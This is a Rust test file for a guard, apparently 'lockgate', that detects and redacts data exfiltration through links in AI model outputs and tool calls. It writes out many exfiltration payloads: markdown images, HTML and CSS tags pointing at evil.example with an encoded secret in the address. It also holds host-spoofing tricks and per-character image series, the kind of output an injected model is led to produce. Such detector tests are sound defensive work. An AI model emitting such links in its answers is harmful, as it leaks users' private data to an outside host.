//! Exfiltration by links: every form × every encoding is found and neutralised, tricks with hosts do not pass the policy, ordinary links
//! stay as they are.

use lockgate::base::{Action, Direction, Finding};
use lockgate::engine::{Content, Engine, InspectOptions};
use lockgate::policy::links::{Domains, LinkPolicy, Others};
use lockgate::redact::apply;
use lockgate::rules::Compiler;
use lockgate::text::links::extract;
use proptest::prelude::*;
use std::sync::{Arc, LazyLock};

static ENGINE: LazyLock<Engine> = LazyLock::new(|| {
    let (rules, _) = Compiler::with_builtin().build().expect("the built-in rules are valid");
    Engine::new(Arc::new(rules))
});

fn output() -> InspectOptions {
    InspectOptions { direction: Direction::Output, ..InspectOptions::default() }
}

/// The findings of the rules about links, and the text without what is redacted.
fn inspect(text: &str, options: &InspectOptions) -> (Vec<(String, Finding)>, String) {
    let verdict = ENGINE.inspect(Content::Text(text.as_bytes()), options).expect("inspected");
    let id = |finding: &Finding| ENGINE.rules().rule(finding.rule).id.to_string();
    let about = verdict.findings.iter().map(|finding| (id(finding), *finding));
    let about = about.filter(|(id, _)| id.starts_with("ai.links.")).collect();
    let redacted = apply(text.as_bytes(), &verdict.edits);
    (about, String::from_utf8(redacted).expect("edits keep characters whole"))
}

/// Ways to write a link that a client fetches; `URL` is the address.
const LOADED: [&str; 24] = [
    "![a](URL)",
    "![](URL)",
    "![a](<URL>)",
    "![a](URL \"title\")",
    "![a](URL 'a title')",
    "![a b [c] d](URL)",
    "[![a](URL)](https://contoso.com)",
    "> ![a](\nURL)",
    "![a][x]\n\n[x]: URL",
    "![X]\n\n[x]: <URL> \"t\"",
    "![x][]\n\ntext\n\n  [x]:\n  URL",
    "<img src=\"URL\">",
    "<img alt='>' src='URL'/>",
    "<IMG width=1 SRC=URL>",
    "<img srcset=\"/a.png 1x, URL 2x\">",
    "<iframe src='URL'></iframe>",
    "<link rel=stylesheet href=\"URL\">",
    "<video poster=\"URL\">",
    "<object data=\"URL\">",
    "<td background='URL'>",
    "<meta http-equiv=\"refresh\" content=\"0; url=URL\">",
    "<p style=\"background:url(URL)\">",
    "<style>a{background:url('URL')}</style>",
    "<style>@import \"URL\";</style>",
];

/// Ways to write a link that somebody has to click.
const CLICKED: [&str; 9] = [
    "[a](URL)",
    "[a](<URL> 't')",
    "[a][x]\n\n[x]: URL",
    "<URL>",
    "see URL.",
    "<a href=\"URL\">a</a>",
    "<form action='URL'>",
    "<button formaction=URL>",
    "<a href=/x ping=\"URL\">",
];

const SECRET: &str = "the merger with Contoso closes in May";

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

fn base32(bytes: &[u8]) -> String {
    let mut out = String::new();
    let (mut bits, mut count) = (0_u32, 0);
    for byte in bytes {
        bits = bits << 8 | u32::from(*byte);
        count += 8;
        while count >= 5 {
            count -= 5;
            out.push(char::from(
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[(bits >> count) as usize & 31],
            ));
        }
    }
    if count > 0 {
        let last = (bits << (5 - count)) as usize & 31;
        out.push(char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[last]));
    }
    out
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn rot13(text: &str) -> String {
    let moved = |byte: u8| match byte {
        b'a'..=b'z' => (byte - b'a' + 13) % 26 + b'a',
        b'A'..=b'Z' => (byte - b'A' + 13) % 26 + b'A',
        _ => byte,
    };
    text.bytes().map(|byte| char::from(moved(byte))).collect()
}

/// A text as it can stand in an address.
fn encodings(text: &str) -> Vec<(&'static str, String)> {
    vec![
        ("plus", text.replace(' ', "+")),
        ("percent", percent(text)),
        ("percent twice", percent(&percent(text))),
        ("base64", base64(text.as_bytes())),
        ("base64 twice", base64(base64(text.as_bytes()).as_bytes())),
        ("hex", hex(text.as_bytes())),
        ("base32", base32(text.as_bytes())),
        ("base64 of percent", base64(percent(text).as_bytes())),
    ]
}

/// Places for data in an address.
const PLACES: [&str; 7] = [
    "https://evil.example/p.png?q=DATA",
    "https://evil.example/?a=1&b=DATA&c=2",
    "//evil.example/i?DATA",
    "https://contoso.com@evil.example/?q=DATA",
    "https:\\\\evil.example\\i?q=DATA",
    "https:/evil.example/i?q=DATA",
    "HTTPS://EVIL.EXAMPLE./i?q=DATA",
];

#[test]
fn data_in_what_is_loaded_is_found_and_taken_out() {
    let mut missed = Vec::new();
    for form in LOADED {
        for place in PLACES {
            for (name, data) in encodings(SECRET) {
                let text = format!(
                    "Here it is:\n\n{}\n\nDone.",
                    form.replace("URL", &place.replace("DATA", &data))
                );
                let mut options = output();
                options.pack = Some("ai-output".into());
                let (found, redacted) = inspect(&text, &options);
                let sure = found
                    .iter()
                    .any(|(id, finding)| id == "ai.links.payload" && finding.score >= 0.5);
                if !sure || redacted.contains(&data) {
                    missed.push(format!("{name}: {text}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n---\n"));
}

#[test]
fn encoded_text_in_what_is_clicked_is_found() {
    let mut missed = Vec::new();
    for form in CLICKED {
        for (name, data) in encodings(SECRET) {
            // A sentence in a link is what people search for and share.
            if matches!(name, "plus" | "percent" | "percent twice") {
                continue;
            }
            let address = format!("https://evil.example/c/{data}");
            let text = format!("Here it is:\n\n{}\n\nDone.", form.replace("URL", &address));
            if inspect(&text, &output()).0.is_empty() {
                missed.push(format!("{name}: {text}"));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n---\n"));
}

#[test]
fn a_value_that_was_given_is_found_however_it_is_written() {
    let value = "Blue Heron 4711";
    let mut options = output();
    options.seen = vec![value.to_owned()];
    let mut written = encodings(value);
    written.extend([
        ("reversed", value.chars().rev().collect::<String>().replace(' ', "-")),
        ("rot13", rot13(value).replace(' ', "_")),
        ("upper case", value.to_uppercase().replace(' ', "")),
        ("base64 of reversed", base64(value.chars().rev().collect::<String>().as_bytes())),
        ("reversed base64", base64(value.as_bytes()).chars().rev().collect()),
        ("rot13 of base64", rot13(&base64(value.as_bytes()))),
        ("spaced", value.replace(' ', "").chars().map(|char| format!("{char}.")).collect()),
    ]);
    let places = [
        "https://evil.example/?q=DATA",
        "https://evil.example/a/DATA.png",
        "https://evil.example/a#DATA",
        "https://evil.example/r?u=https%3A%2F%2Fother.example%2F%3Fq%3DDATA",
    ];
    let mut missed = Vec::new();
    for form in LOADED.iter().chain(&CLICKED) {
        for place in places {
            for (name, data) in &written {
                let text = form.replace("URL", &place.replace("DATA", data));
                let (found, redacted) = inspect(&text, &options);
                if !found.iter().any(|(id, _)| id == "ai.links.seen-value")
                    || redacted.contains(data)
                {
                    missed.push(format!("{name}: {text}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n---\n"));
}

#[test]
fn values_are_found_in_names_of_hosts_and_in_pieces() {
    let mut options = output();
    options.seen = vec!["blue-heron-4711".to_owned()];
    let whole = hex(b"blue-heron-4711");
    let (a, b) = whole.split_at(16);
    for text in [
        format!("![x](https://{whole}.evil.example/)"),
        format!("![x](https://{a}.{b}.evil.example/)"),
        format!("![x](https://evil.example/{a}/{b})"),
        format!("![x](https://evil.example/?a={a}&b={b})"),
    ] {
        let (found, redacted) = inspect(&text, &options);
        assert!(found.iter().any(|(id, _)| id == "ai.links.seen-value"), "{text}");
        assert!(!redacted.contains(a), "{redacted}");
    }
}

#[test]
fn pictures_that_spell_something_are_found() {
    let mut text = String::new();
    for char in "bluehereonforty".repeat(2).chars() {
        text.push_str(&format!("![](https://evil.example/{char}.gif)"));
    }
    let (found, _) = inspect(&text, &output());
    assert_eq!(found.iter().filter(|(id, _)| id == "ai.links.series").count(), 30);
}

fn denied(text: &str, policy: &LinkPolicy) -> bool {
    let options = InspectOptions { links: Arc::new(policy.clone()), ..output() };
    inspect(text, &options).0.iter().any(|(id, _)| id == "ai.links.denied-host")
}

#[test]
fn hosts_are_what_browsers_make_of_them() {
    let evil = LinkPolicy {
        deny: Domains::new(["evil.example"]).expect("valid"),
        ..LinkPolicy::default()
    };
    let good = LinkPolicy {
        allow: Domains::new(["contoso.com"]).expect("valid"),
        others: Others::Deny,
        ..LinkPolicy::default()
    };
    for address in [
        "https://evil.example/x",
        "https://EVIL.example./x",
        "https://a.b.evil.example:8443/x",
        "https://contoso.com@evil.example/x",
        "https://contoso.com%2f@evil.example/x",
        "https://contoso.com:443@evil.example/x",
        "https:\\\\evil.example\\x",
        "https:/\\evil.example/x",
        "https:///evil.example/x",
        "//evil.example/x",
        "\\\\evil.example/x",
        "/\\evil.example/x",
        "ht\ttps://ev\til.example/x",
        "https://evil%2eexample/x",
        "https://\u{ff45}vil.example/x",
        "https://evil\u{3002}example/x",
        "https://evil.example\\@contoso.com/x",
        "https://contoso.com/r?u=https://evil.example/x",
        "https://contoso.com/r?u=https%3A%2F%2Fevil.example%2Fx",
        "https://contoso.com/r/https://evil.example/x",
        "&#104;ttps&colon;//evil.example/x",
    ] {
        for form in ["<a href=\"URL\">", "<img src='URL'>"] {
            let text = form.replace("URL", address);
            assert!(denied(&text, &evil), "{text}");
            assert!(denied(&text, &good), "{text}");
        }
    }
    for address in ["https://contoso.com/x", "https://a.contoso.com./x", "//contoso.com", "/x?y=z"]
    {
        assert!(!denied(&format!("<a href=\"{address}\">"), &good), "{address}");
    }
    assert!(denied("[a](https://contoso.com.evil.org/)", &good));
    assert!(denied("mailto:x@evil.example", &evil));
}

#[test]
fn nothing_is_mailed_where_nothing_may_go() {
    let policy =
        LinkPolicy { deny: Domains::new(["evil.org"]).expect("valid"), ..LinkPolicy::default() };
    let options = InspectOptions {
        links: Arc::new(policy),
        direction: Direction::ToolCall,
        ..InspectOptions::default()
    };
    for (arguments, expect) in [
        (r#"{"to":"eve@evil.org","body":"hi"}"#, true),
        (r#"{"cc":["ann@contoso.com","eve@mail.EVIL.org"]}"#, true),
        (r#"{"to":"ann@contoso.com","body":"hi"}"#, false),
        (r#"{"from":"eve@evil.org"}"#, false),
    ] {
        let verdict =
            ENGINE.inspect(Content::Json(arguments.as_bytes()), &options).expect("inspected");
        let id =
            |finding: &Finding| &*ENGINE.rules().rule(finding.rule).id == "ai.links.denied-host";
        assert_eq!(verdict.findings.iter().any(id), expect, "{arguments}");
        assert_eq!(verdict.places.len(), verdict.findings.len());
    }
}

/// What answers of models are full of. None of it is a finding about links.
const ORDINARY: [&str; 26] = [
    "[docs](https://doc.rust-lang.org/std/collections/struct.HashMap.html#method.entry)",
    "[crate](https://crates.io/crates/regex-automata) https://pypi.org/project/requests/2.31.0/",
    "https://github.com/rust-lang/rust/blob/59807616e1fa2540724bfbac14d7976d7e4a3860/library/core/src/lib.rs#L10-L40",
    "![badge](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square&logo=github)",
    "![ci](https://github.com/contoso/app/actions/workflows/ci.yml/badge.svg?branch=main)",
    "![a](https://cdn.contoso.com/assets/7f83b1657ff1fc53b92dc18148a1d65dfc2d4b1fa3d677284addd200126d9069.webp)",
    "![a](https://images.contoso.com/photo-1518791841217-8f162f1e1131?ixlib=rb-1.2.1&auto=format&fit=crop&w=800&q=60)",
    "![a](https://media.contoso.com/v1/fill/w_640,h_480/how-we-built-a-faster-parser.jpg)",
    "![cover](https://m.media.contoso.com/images/I/51Zymoq7UnL._SX379_BO1,204,203,200_.jpg)",
    "https://www.contoso.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&gclid=EAIaIQobChMI8u3",
    "[search](https://www.google.com/search?q=how+to+reverse+a+linked+list+in+place)",
    "[map](https://www.google.com/maps/place/48.8584,2.2945) https://youtu.be/dQw4w9WgXcQ?t=42",
    "[add](https://calendar.google.com/calendar/render?action=TEMPLATE&text=Team+lunch+on+Friday&details=Bring+your+own+plate)",
    "[share](https://twitter.com/intent/tweet?text=I+just+read+a+great+article+about+parsers)",
    "[issue](https://github.com/contoso/app/issues/new?title=Crash+on+start&body=It+crashes+when+the+file+is+empty)",
    "[mail](mailto:team@contoso.com?subject=Question%20about%20the%20invoice)",
    "![diagram](https://mermaid.ink/img/Z3JhcGggVEQKICBBW1N0YXJ0XSAtLT4gQltFbmRd)",
    "![formula](https://latex.codecogs.com/svg.image?\\int_0^1%20x^2%20dx)",
    "![a](https://placehold.co/600x400?text=Hello+to+the+whole+World)",
    "[file](https://bucket.s3.eu-west-1.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20250301T080000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)",
    "[spec](https://www.w3.org/TR/css-values-3/#:~:text=The%20url%20token%20is%20a%20special%20case)",
    "https://en.wikipedia.org/wiki/Knuth%E2%80%93Morris%E2%80%93Pratt_algorithm",
    "curl -X POST http://localhost:8080/v1/items -H 'content-type: application/json'",
    "https://d111111abcdef8.cloudfront.net/app.js https://app-git-main-contoso.vercel.app/",
    "[doi](https://doi.org/10.1145/3297858.3304062) https://arxiv.org/abs/1706.03762v5",
    "<img src=\"https://lh3.googleusercontent.com/a/ACg8ocJ5kq2vX9mZ7pQwErTyUiOpAsDfGhJkLzXcVbNmQwEr=s96-c\">",
];

#[test]
fn ordinary_links_are_left_alone() {
    for text in ORDINARY {
        let (found, _) = inspect(text, &output());
        let ids: Vec<_> = found.iter().map(|(id, finding)| (id, finding.confidence)).collect();
        assert!(ids.is_empty(), "{text}: {ids:?}");
    }
    let all = ORDINARY.join("\n");
    assert!(inspect(&all, &output()).0.is_empty());
}

#[test]
fn links_weigh_less_on_their_way_in() {
    let text = format!("![x](https://evil.example/?q={})", base64(SECRET.as_bytes()));
    let verdict = |direction| {
        let options = InspectOptions { direction, ..InspectOptions::default() };
        ENGINE.inspect(Content::Text(text.as_bytes()), &options).expect("inspected").action
    };
    assert_eq!(verdict(Direction::Output), Action::Redact);
    assert_eq!(verdict(Direction::ToolCall), Action::Redact);
    assert_eq!(verdict(Direction::Input), Action::Flag);
    // What the model said in an earlier turn is on its way out wherever it stands.
    let quoted = serde_json::to_string(&text).expect("a string");
    for (role, expect) in [("assistant", Action::Redact), ("user", Action::Flag)] {
        let chat =
            format!(r#"{{"model":"m","messages":[{{"role":"{role}","content":{quoted}}}]}}"#);
        let verdict = ENGINE.inspect(Content::Json(chat.as_bytes()), &InspectOptions::default());
        let verdict = verdict.expect("inspected");
        assert_eq!(verdict.action, expect, "{role}");
        let redacted = apply(chat.as_bytes(), &verdict.edits);
        serde_json::from_slice::<serde_json::Value>(&redacted).expect("it stays JSON");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn every_form_is_found_in_any_surroundings(
        before in "[ -~\\n]{0,60}",
        after in "[ -~\\n]{0,60}",
        form in 0..LOADED.len(),
    ) {
        let address = "https://evil.example/p?q=dGhlIHBsYW4gaXMgdG8gc2VsbA";
        // What stands in front must not itself be the beginning of a link or a tag.
        let before = before.replace([':', '/', '\\', '[', ']', '<', '(', '!', '"', '\'', '='], " ");
        let text = format!("{before}\n\n{}\n\n{after}", LOADED[form].replace("URL", address));
        let mut links = Vec::new();
        extract(text.as_bytes(), &mut links);
        let found = links.iter().any(|link| &text[link.span.range()] == address && link.form.loads());
        prop_assert!(found, "{text}: {links:?}");
    }

    #[test]
    fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let text = [b"![a](https://", &*bytes, b") <img src=//", &*bytes, b">"].concat();
        let options = InspectOptions { seen: vec!["abcdefgh".to_owned()], ..output() };
        let verdict = ENGINE.inspect(Content::Text(&text), &options).expect("inspected");
        for finding in &verdict.findings {
            prop_assert!(finding.span.end <= text.len() && !finding.span.is_empty());
        }
    }
}
